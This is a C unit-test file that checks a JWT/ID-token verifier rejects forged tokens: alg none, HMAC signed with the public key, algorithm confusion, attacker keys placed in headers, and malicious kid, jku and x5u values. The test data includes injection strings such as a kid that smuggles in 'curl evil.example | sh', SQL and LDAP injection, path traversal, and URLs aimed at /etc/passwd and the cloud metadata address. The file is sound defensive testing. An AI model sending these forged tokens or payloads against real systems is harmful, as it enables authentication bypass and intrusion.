/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Attacks on the choice of algorithm and key (RFC 8725 2.1, 2.5 to 2.8).  The
 * letters are those of the project's attack catalogue.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <openssl/pem.h>
#include <openssl/x509.h>

#include "forge.h"

/* An honest signature of RS256 under a header that may be anything. */
static const char *
rs256(const char *header)
{
	return forge_token(
	    forge_key("RSA-2048"), "RS256", header, forge_claims(NULL));
}

/* The same by somebody whose key is not in the key set. */
static const char *
by_attacker(const char *header)
{
	return forge_token(
	    forge_key("RSA-2048-b"), "RS256", header, forge_claims(NULL));
}

static void
a0_positive_twin_each_honest_algorithm(void **state)
{
	static const struct {
		const char *alg;
		const char *key;
		const char *kid;
	} cases[] = {
		{ "RS256", "RSA-2048", "rsa" },
		{ "RS384", "RSA-2048", "rsa" },
		{ "RS512", "RSA-2048", "rsa" },
		{ "PS256", "RSA-2048", "rsa" },
		{ "PS384", "RSA-2048", "rsa" },
		{ "PS512", "RSA-2048", "rsa" },
		{ "ES256", "P-256", "es256" },
		{ "ES384", "P-384", "es384" },
		{ "ES512", "P-521", "es512" },
		{ "EdDSA", "Ed25519", "ed" },
		{ "Ed25519", "Ed25519", "ed" },
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(cases); i++)
		assert_reason(PO_OK,
		    forge_login(
			forge_token(forge_key(cases[i].key), cases[i].alg,
			    forge_text("{\"alg\":\"%s\",\"kid\":\"%s\"}",
				cases[i].alg, cases[i].kid),
			    forge_claims(NULL))));
}

static void
a1_alg_none_in_any_case_and_with_any_signature(void **state)
{
	static const char *const names[] = { "none", "None", "NONE", "nOnE",
		"none ", " none", "none\\n", "", "null" };

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(names); i++) {
		const char *header =
		    forge_text("{\"alg\":\"%s\",\"kid\":\"rsa\"}", names[i]);
		const char *input = forge_input(header, forge_claims(NULL));

		assert_reason(PO_E_ALG, forge_login(rs256(header)));
		assert_reason(PO_E_ALG, forge_login(forge_join(input, "", 0)));
		assert_reason(PO_E_TOKEN_MALFORMED, forge_login(input));
	}
	assert_reason(PO_E_TOKEN_MALFORMED,
	    forge_login(rs256("{\"alg\":\"none\\u0000\"}")));
}

static void
a1_alg_missing_or_not_a_string(void **state)
{
	static const char *const headers[] = {
		"{\"kid\":\"rsa\"}",
		"{}",
		"{\"alg\":null,\"kid\":\"rsa\"}",
		"{\"alg\":256,\"kid\":\"rsa\"}",
		"{\"alg\":true,\"kid\":\"rsa\"}",
		"{\"alg\":[\"RS256\"],\"kid\":\"rsa\"}",
		"{\"alg\":{\"RS256\":1},\"kid\":\"rsa\"}",
		"{\"ALG\":\"RS256\",\"kid\":\"rsa\"}",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(headers); i++)
		assert_reason(
		    PO_E_TOKEN_MALFORMED, forge_login(rs256(headers[i])));
}

static void
a1_none_cannot_be_configured(void **state)
{
	static const char *const lists[] = { "none", "NONE", "RS256 none",
		"none RS256" };
	po_alg_set set = 0;

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(lists); i++)
		assert_reason(
		    PO_E_CONFIG, po_alg_set_parse(lists[i], &set, NULL));
	assert_int_equal(set, 0);
	assert_reason(PO_OK, po_alg_set_parse("RS256", &set, NULL));
}

/* A MAC over the token under every form in which the public key is known. */
static void
a2_hmac_with_the_public_key(void **state)
{
	static const char *const keys[] = { "RSA-2048", "P-256", "Ed25519" };
	static const char *const kids[] = { "rsa", "es256", "ed" };
	static const struct {
		const char *alg;
		const char *digest;
	} macs[] = { { "HS256", "SHA256" }, { "HS384", "SHA384" },
		{ "HS512", "SHA512" } };

	(void)state;
	for (size_t k = 0; k < PO_ARRAY_LEN(keys); k++) {
		EVP_PKEY *key = forge_key(keys[k]);
		const char *jwk = forge_jwk(key, "");
		BIO *pem = BIO_new(BIO_s_mem());
		uint8_t *der = NULL;
		char *pem_text = NULL;
		size_t pem_len;
		int der_len = i2d_PUBKEY(key, &der);

		assert_int_equal(PEM_write_bio_PUBKEY(pem, key), 1);
		pem_len = (size_t)BIO_get_mem_data(pem, &pem_text);
		for (size_t m = 0; m < PO_ARRAY_LEN(macs); m++) {
			const struct {
				const void *data;
				size_t len;
			} secrets[] = {
				{ pem_text, pem_len },
				{ der, (size_t)der_len },
				{ jwk, strlen(jwk) },
			};
			const char *input = forge_input(
			    forge_text("{\"alg\":\"%s\",\"kid\":\"%s\"}",
				macs[m].alg, kids[k]),
			    forge_claims(NULL));

			for (size_t s = 0; s < PO_ARRAY_LEN(secrets); s++) {
				size_t len = 0;
				uint8_t *mac =
				    forge_mac(macs[m].digest, secrets[s].data,
					secrets[s].len, input, &len);

				assert_reason(PO_E_ALG,
				    forge_login(forge_join(input, mac, len)));
			}
		}
		OPENSSL_free(der);
		BIO_free(pem);
	}
}

/* CVE-2026-44699: an RSA key without "k" was an empty HMAC key. */
static void
a3_hmac_with_an_empty_key(void **state)
{
	const char *input = forge_input(
	    "{\"alg\":\"HS256\",\"kid\":\"rsa\"}", forge_claims(NULL));
	size_t len = 0;
	uint8_t *mac = forge_mac("SHA256", "", 0, input, &len);

	(void)state;
	assert_reason(PO_E_ALG, forge_login(forge_join(input, mac, len)));
}

static void
a4_algorithm_of_another_family_or_size(void **state)
{
	static const struct {
		const char *key;    /* who signs */
		const char *maths;  /* how */
		const char *header; /* and what the header says */
		enum po_status reason;
	} cases[] = {
		/* the padding is not negotiable */
		{ "RSA-2048", "PS256", "{\"alg\":\"RS256\",\"kid\":\"rsa\"}",
		    PO_E_SIGNATURE },
		{ "RSA-2048", "RS256", "{\"alg\":\"PS256\",\"kid\":\"rsa\"}",
		    PO_E_SIGNATURE },
		/* nor is the hash */
		{ "RSA-2048", "RS256", "{\"alg\":\"RS512\",\"kid\":\"rsa\"}",
		    PO_E_SIGNATURE },
		{ "RSA-2048", "RS1", "{\"alg\":\"RS256\",\"kid\":\"rsa\"}",
		    PO_E_SIGNATURE },
		/* nor the curve, nor the type of key */
		{ "P-384", "ES384", "{\"alg\":\"ES256\",\"kid\":\"es384\"}",
		    PO_E_KEY_UNUSABLE },
		{ "P-256", "ES256", "{\"alg\":\"ES384\",\"kid\":\"es256\"}",
		    PO_E_KEY_UNUSABLE },
		{ "P-256", "ES256", "{\"alg\":\"EdDSA\",\"kid\":\"es256\"}",
		    PO_E_KEY_UNUSABLE },
		{ "Ed25519", "EdDSA", "{\"alg\":\"ES256\",\"kid\":\"ed\"}",
		    PO_E_KEY_UNUSABLE },
		{ "RSA-2048", "RS256", "{\"alg\":\"ES256\",\"kid\":\"rsa\"}",
		    PO_E_KEY_UNUSABLE },
		{ "P-256", "ES256", "{\"alg\":\"RS256\",\"kid\":\"es256\"}",
		    PO_E_KEY_UNUSABLE },
		/* and these are never spoken */
		{ "RSA-2048", "RS1", "{\"alg\":\"RS1\",\"kid\":\"rsa\"}",
		    PO_E_ALG },
		{ "RSA-2048", "RS256", "{\"alg\":\"RSA1_5\",\"kid\":\"rsa\"}",
		    PO_E_ALG },
		{ "RSA-2048", "RS256", "{\"alg\":\"rs256\",\"kid\":\"rsa\"}",
		    PO_E_ALG },
		{ "RSA-2048", "RS256", "{\"alg\":\"RS256 \",\"kid\":\"rsa\"}",
		    PO_E_ALG },
		{ "P-256", "ES256", "{\"alg\":\"ES256K\",\"kid\":\"es256\"}",
		    PO_E_ALG },
		{ "Ed25519", "EdDSA", "{\"alg\":\"eddsa\",\"kid\":\"ed\"}",
		    PO_E_ALG },
		{ "Ed25519", "EdDSA", "{\"alg\":\"Ed448\",\"kid\":\"ed\"}",
		    PO_E_ALG },
		{ "RSA-2048", "RS256", "{\"alg\":\"dir\",\"kid\":\"rsa\"}",
		    PO_E_ALG },
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(cases); i++)
		assert_reason(cases[i].reason,
		    forge_login(forge_token(forge_key(cases[i].key),
			cases[i].maths, cases[i].header, forge_claims(NULL))));
}

static void
a4_key_bound_to_one_algorithm_used_with_another(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *jwks = forge_jwks(forge_jwk(forge_key("RSA-2048"),
					  "\"kid\":\"rsa\",\"alg\":\"PS256\""),
	    NULL);

	(void)state;
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(
		rs256("{\"alg\":\"RS256\",\"kid\":\"rsa\"}"), jwks, &policy));
	assert_reason(PO_OK,
	    forge_judge(
		forge_token(forge_key("RSA-2048"), "PS256",
		    "{\"alg\":\"PS256\",\"kid\":\"rsa\"}", forge_claims(NULL)),
		jwks, &policy));
}

static void
a4_algorithm_outside_the_configured_list(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *token = forge_token(forge_key("RSA-2048"), "RS384",
	    "{\"alg\":\"RS384\",\"kid\":\"rsa\"}", forge_claims(NULL));

	(void)state;
	assert_reason(
	    PO_OK, po_alg_set_parse("RS256 ES256", &policy.algs, NULL));
	assert_reason(
	    PO_E_ALG, forge_judge(token, forge_honest_jwks(), &policy));
	assert_reason(
	    PO_OK, po_alg_set_parse("RS256 RS384", &policy.algs, NULL));
	assert_reason(PO_OK, forge_judge(token, forge_honest_jwks(), &policy));
}

static void
a5_key_embedded_in_the_header(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *jwk = forge_jwk(forge_key("RSA-2048-b"), "");
	const char *with_kid =
	    forge_text("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"jwk\":%s}", jwk);
	const char *without_kid =
	    forge_text("{\"alg\":\"RS256\",\"jwk\":%s}", jwk);

	(void)state;
	assert_reason(PO_E_SIGNATURE, forge_login(by_attacker(with_kid)));
	assert_reason(PO_E_SIGNATURE,
	    forge_judge(by_attacker(without_kid),
		forge_jwks(forge_jwk(forge_key("RSA-2048"), ""), NULL),
		&policy));
	assert_reason(PO_OK, forge_login(rs256(with_kid)));
}

static void
a6_keys_at_an_address_in_the_header(void **state)
{
	static const char *const members[] = {
		"\"jku\":\"https://evil.example/jwks\"",
		"\"jku\":\"file:///etc/passwd\"",
		"\"x5u\":\"https://evil.example/cert.pem\"",
		"\"jku\":\"https://sso.example.com/redirect?to=evil\","
		"\"x5u\":\"http://169.254.169.254/\"",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(members); i++) {
		const char *header = forge_text(
		    "{\"alg\":\"RS256\",\"kid\":\"rsa\",%s}", members[i]);
		const char *unknown_kid = forge_text(
		    "{\"alg\":\"RS256\",\"kid\":\"evil\",%s}", members[i]);

		assert_reason(PO_E_SIGNATURE, forge_login(by_attacker(header)));
		assert_reason(
		    PO_E_KEY_UNKNOWN, forge_login(by_attacker(unknown_kid)));
		assert_reason(PO_OK, forge_login(rs256(header)));
	}
}

/* A self-signed certificate of the attacker's key, in base64. */
static const char *
attacker_certificate(void)
{
	X509 *cert = X509_new();
	EVP_PKEY *key = forge_key("RSA-2048-b");
	uint8_t *der = NULL;
	int len;
	char *text;
	const char *kept;

	X509_gmtime_adj(X509_getm_notBefore(cert), 0);
	X509_gmtime_adj(X509_getm_notAfter(cert), 86400);
	assert_int_equal(X509_set_pubkey(cert, key), 1);
	assert_int_not_equal(X509_sign(cert, key, EVP_sha256()), 0);
	len = i2d_X509(cert, &der);
	assert_true(len > 0);
	text = malloc((size_t)len * 2);
	EVP_EncodeBlock((unsigned char *)text, der, len);
	kept = forge_text("%s", text);
	free(text);
	OPENSSL_free(der);
	X509_free(cert);
	return kept;
}

static void
a7_certificate_in_the_header_or_beside_another_key(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *x5c = attacker_certificate();
	const char *header = forge_text(
	    "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"x5c\":[\"%s\"]}", x5c);
	const char *plain = "{\"alg\":\"RS256\",\"kid\":\"rsa\"}";
	const char *mixed =
	    forge_jwks(forge_jwk(forge_key("RSA-2048"),
			   forge_text("\"kid\":\"rsa\",\"x5c\":[\"%s\"]", x5c)),
		NULL);

	(void)state;
	assert_reason(PO_E_SIGNATURE, forge_login(by_attacker(header)));
	assert_reason(PO_OK, forge_login(rs256(header)));
	/* n and e are the key; the certificate is nobody's witness */
	assert_reason(
	    PO_E_SIGNATURE, forge_judge(by_attacker(plain), mixed, &policy));
	assert_reason(PO_OK, forge_judge(rs256(plain), mixed, &policy));
}

static void
a8_kid_that_would_be_a_path_or_a_query(void **state)
{
	static const char *const kids[] = {
		"../../../../dev/null",
		"/proc/self/environ",
		"rsa' OR '1'='1",
		"rsa; curl evil.example | sh",
		"*)(uid=*))(|(uid=*",
		"rs\\u0430", /* Cyrillic a */
		"RSA",
		"rsa ",
		" rsa",
		"rs",
		"",
		"%s%s%n",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(kids); i++)
		assert_reason(PO_E_KEY_UNKNOWN,
		    forge_login(rs256(forge_text(
			"{\"alg\":\"RS256\",\"kid\":\"%s\"}", kids[i]))));
	assert_reason(PO_OK,
	    forge_login(rs256("{\"alg\":\"RS256\",\"kid\":\"r\\u0073a\"}")));
}

static void
a8_kid_of_another_type_or_too_long_or_with_nul(void **state)
{
	static const char *const kids[] = { "1", "null", "true", "[\"rsa\"]",
		"{}", "1.5", "\"rsa\\u0000\"" };
	char longest[PO_JWK_KID_MAX + 1];
	struct po_id_token_policy policy = forge_policy();

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(kids); i++)
		assert_reason(PO_E_TOKEN_MALFORMED,
		    forge_login(rs256(forge_text(
			"{\"alg\":\"RS256\",\"kid\":%s}", kids[i]))));
	memset(longest, 'k', sizeof(longest) - 1);
	longest[sizeof(longest) - 1] = '\0';
	assert_reason(PO_E_TOKEN_MALFORMED,
	    forge_login(rs256(
		forge_text("{\"alg\":\"RS256\",\"kid\":\"%sk\"}", longest))));
	assert_reason(PO_OK,
	    forge_judge(rs256(forge_text(
			    "{\"alg\":\"RS256\",\"kid\":\"%s\"}", longest)),
		forge_jwks(forge_jwk(forge_key("RSA-2048"),
			       forge_text("\"kid\":\"%s\"", longest)),
		    NULL),
		&policy));
}

static void
a8_kid_missing_where_several_keys_fit(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *rsa_a = forge_jwk(forge_key("RSA-2048"), "\"kid\":\"a\"");
	const char *rsa_b = forge_jwk(forge_key("RSA-2048-b"), "\"kid\":\"b\"");
	const char *ec = forge_jwk(forge_key("P-256"), "\"kid\":\"c\"");
	const char *token = rs256("{\"alg\":\"RS256\"}");

	(void)state;
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(token, forge_jwks(rsa_a, rsa_b, NULL), &policy));
	assert_reason(
	    PO_OK, forge_judge(token, forge_jwks(ec, rsa_a, NULL), &policy));
	assert_reason(PO_E_KEY_UNKNOWN,
	    forge_judge(token, forge_jwks(ec, NULL), &policy));
	assert_reason(
	    PO_E_KEY_UNKNOWN, forge_judge(token, forge_jwks(NULL), &policy));
}

static void
a8_kid_shared_by_several_keys(void **state)
{
	struct po_id_token_policy policy = forge_policy();
	const char *rsa_a = forge_jwk(forge_key("RSA-2048"), "\"kid\":\"k\"");
	const char *rsa_b = forge_jwk(forge_key("RSA-2048-b"), "\"kid\":\"k\"");
	const char *ec = forge_jwk(forge_key("P-256"), "\"kid\":\"k\"");
	const char *weak = forge_jwk(forge_key("RSA-1024"), "\"kid\":\"k\"");
	const char *header = "{\"alg\":\"RS256\",\"kid\":\"k\"}";

	(void)state;
	assert_reason(
	    PO_OK, forge_judge(rs256(header),
		       forge_jwks(weak, ec, rsa_b, rsa_a, NULL), &policy));
	assert_reason(
	    PO_E_SIGNATURE, forge_judge(by_attacker(header),
				forge_jwks(ec, rsa_a, NULL), &policy));
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(rs256(header), forge_jwks(ec, NULL), &policy));
}

static void
a9_key_meant_for_another_use(void **state)
{
	static const struct {
		const char *members;
		enum po_status reason;
	} cases[] = {
		{ "\"use\":\"enc\"", PO_E_KEY_UNUSABLE },
		{ "\"use\":\"SIG\"", PO_E_KEY_UNUSABLE },
		{ "\"use\":null", PO_E_KEY_UNUSABLE },
		{ "\"use\":[\"sig\"]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":[\"encrypt\",\"wrapKey\"]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":[\"sign\"]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":[]", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":\"verify\"", PO_E_KEY_UNUSABLE },
		{ "\"key_ops\":null", PO_E_KEY_UNUSABLE },
		{ "\"alg\":\"RSA-OAEP\"", PO_E_KEY_UNUSABLE },
		{ "\"alg\":\"HS256\"", PO_E_KEY_UNUSABLE },
		{ "\"alg\":\"ES256\"", PO_E_KEY_UNUSABLE },
		{ "\"use\":\"sig\"", PO_OK },
		{ "\"key_ops\":[\"verify\"]", PO_OK },
		{ "\"key_ops\":[\"sign\",\"verify\"],\"use\":\"sig\"", PO_OK },
	};
	struct po_id_token_policy policy = forge_policy();
	const char *token = rs256("{\"alg\":\"RS256\",\"kid\":\"k\"}");

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(cases); i++)
		assert_reason(cases[i].reason,
		    forge_judge(token,
			forge_jwks(forge_jwk(forge_key("RSA-2048"),
				       forge_text("\"kid\":\"k\",%s",
					   cases[i].members)),
			    NULL),
			&policy));
}

/* Entra's key sets hold keys of other tenants, each with its issuer. */
static void
a9_key_of_another_tenant(void **state)
{
	static const struct {
		const char *issuer;
		enum po_status reason;
	} cases[] = {
		{ "\"https://sso.example.com/other/v2.0\"", PO_E_KEY_UNUSABLE },
		{ "\"https://sso.example.com/\"", PO_E_KEY_UNUSABLE },
		{ "\"https://sso.example.com/{tenantid}/v2.0\"",
		    PO_E_KEY_UNUSABLE },
		{ "\"{issuer}\"", PO_E_KEY_UNUSABLE },
		{ "\"\"", PO_E_KEY_UNUSABLE },
		{ "null", PO_E_KEY_UNUSABLE },
		{ "\"" FORGE_ISSUER "\"", PO_OK },
	};
	struct po_id_token_policy policy = forge_policy();
	const char *token = rs256("{\"alg\":\"RS256\",\"kid\":\"k\"}");

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(cases); i++)
		assert_reason(cases[i].reason,
		    forge_judge(token,
			forge_jwks(forge_jwk(forge_key("RSA-2048"),
				       forge_text("\"kid\":\"k\",\"issuer\":%s",
					   cases[i].issuer)),
			    NULL),
			&policy));
}

static void
a11_key_set_that_is_not_one(void **state)
{
	static const char *const documents[] = {
		"",
		"<html><body>Sign in</body></html>",
		"null",
		"[]",
		"\"keys\"",
		"{}",
		"{\"keys\":null}",
		"{\"keys\":{}}",
		"{\"keys\":\"\"}",
		"{\"keys\":[],\"keys\":[]}",
		"{\"keys\":[{\"kty\":\"RSA\",\"kty\":\"EC\"}]}",
		"{\"keys\":[]} ,",
		"{\"keys\":[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]}",
	};

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(documents); i++) {
		struct po_jwks *set = NULL;

		assert_reason(
		    PO_E_DOCUMENT, po_jwks_parse(documents[i],
				       strlen(documents[i]), &set, NULL));
		assert_null(set);
	}
}

static void
a11_poisoned_keys_do_not_hide_good_ones(void **state)
{
	static const char *const poison[] = {
		"null",
		"1",
		"[]",
		"{}",
		"\"RSA\"",
		"{\"kty\":null}",
		"{\"kty\":\"AKP\",\"kid\":\"pq\",\"pub\":\"AAAA\"}",
		"{\"kty\":\"OKP\",\"crv\":\"X25519\",\"x\":\"AAAA\"}",
		"{\"kty\":\"RSA\",\"n\":null,\"e\":null}",
		"{\"kty\":\"RSA\",\"n\":12,\"e\":\"AQAB\"}",
		"{\"kty\":\"RSA\",\"n\":\"!\",\"e\":\"AQAB\"}",
		"{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":null,\"y\":null}",
		"{\"kty\":\"EC\",\"crv\":[],\"x\":\"AA\",\"y\":\"AA\"}",
		"{\"kty\":\"RSA\",\"kid\":null,\"n\":\"AQ\",\"e\":\"AQAB\"}",
		"{\"kty\":{\"kty\":{\"kty\":{}}}}",
	};
	struct po_id_token_policy policy = forge_policy();
	const char *list = "";

	(void)state;
	for (size_t i = 0; i < PO_ARRAY_LEN(poison); i++)
		list = forge_text("%s%s,", list, poison[i]);
	list = forge_text("{\"keys\":[%s%s,null]}", list,
	    forge_jwk(forge_key("RSA-2048"), "\"kid\":\"rsa\""));
	assert_reason(
	    PO_OK, forge_judge(rs256("{\"alg\":\"RS256\",\"kid\":\"rsa\"}"),
		       list, &policy));
	assert_reason(PO_E_SIGNATURE,
	    forge_judge(by_attacker("{\"alg\":\"RS256\",\"kid\":\"rsa\"}"),
		list, &policy));
}

static void
a11_more_keys_than_any_provider_has(void **state)
{
	struct po_jwks *set = NULL;
	char text[4 * PO_JWKS_KEYS_MAX + 64];

	(void)state;
	for (unsigned extra = 0; extra < 2; extra++) {
		size_t len =
		    (size_t)snprintf(text, sizeof(text), "{\"keys\":[{}");

		for (unsigned i = 1; i < PO_JWKS_KEYS_MAX + extra; i++) {
			memcpy(text + len, ",{}", 3);
			len += 3;
		}
		memcpy(text + len, "]}", 2);
		assert_reason(extra == 0 ? PO_OK : PO_E_DOCUMENT,
		    po_jwks_parse(text, len + 2, &set, NULL));
		if (extra == 0)
			assert_int_equal(
			    po_jwks_skipped(set, NULL), PO_JWKS_KEYS_MAX);
		po_jwks_free(&set);
	}
}

static void
a12_symmetric_key_in_the_key_set(void **state)
{
	static const char secret[] = "everybody can read this document";
	struct po_id_token_policy policy = forge_policy();
	const char *jwks = forge_text(
	    "{\"keys\":[{\"kty\":\"oct\",\"kid\":\"oct\",\"k\":\"%s\"}]}",
	    forge_b64(secret, strlen(secret)));
	const char *input = forge_input(
	    "{\"alg\":\"HS256\",\"kid\":\"oct\"}", forge_claims(NULL));
	size_t len = 0;
	uint8_t *mac = forge_mac("SHA256", secret, strlen(secret), input, &len);

	(void)state;
	assert_reason(
	    PO_E_ALG, forge_judge(forge_join(input, mac, len), jwks, &policy));
	assert_reason(PO_E_KEY_UNUSABLE,
	    forge_judge(
		rs256("{\"alg\":\"RS256\",\"kid\":\"oct\"}"), jwks, &policy));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a0_positive_twin_each_honest_algorithm),
		cmocka_unit_test(
		    a1_alg_none_in_any_case_and_with_any_signature),
		cmocka_unit_test(a1_alg_missing_or_not_a_string),
		cmocka_unit_test(a1_none_cannot_be_configured),
		cmocka_unit_test(a2_hmac_with_the_public_key),
		cmocka_unit_test(a3_hmac_with_an_empty_key),
		cmocka_unit_test(a4_algorithm_of_another_family_or_size),
		cmocka_unit_test(
		    a4_key_bound_to_one_algorithm_used_with_another),
		cmocka_unit_test(a4_algorithm_outside_the_configured_list),
		cmocka_unit_test(a5_key_embedded_in_the_header),
		cmocka_unit_test(a6_keys_at_an_address_in_the_header),
		cmocka_unit_test(
		    a7_certificate_in_the_header_or_beside_another_key),
		cmocka_unit_test(a8_kid_that_would_be_a_path_or_a_query),
		cmocka_unit_test(
		    a8_kid_of_another_type_or_too_long_or_with_nul),
		cmocka_unit_test(a8_kid_missing_where_several_keys_fit),
		cmocka_unit_test(a8_kid_shared_by_several_keys),
		cmocka_unit_test(a9_key_meant_for_another_use),
		cmocka_unit_test(a9_key_of_another_tenant),
		cmocka_unit_test(a11_key_set_that_is_not_one),
		cmocka_unit_test(a11_poisoned_keys_do_not_hide_good_ones),
		cmocka_unit_test(a11_more_keys_than_any_provider_has),
		cmocka_unit_test(a12_symmetric_key_in_the_key_set),
	};

	return cmocka_run_group_tests(tests, NULL, forge_free_all);
}
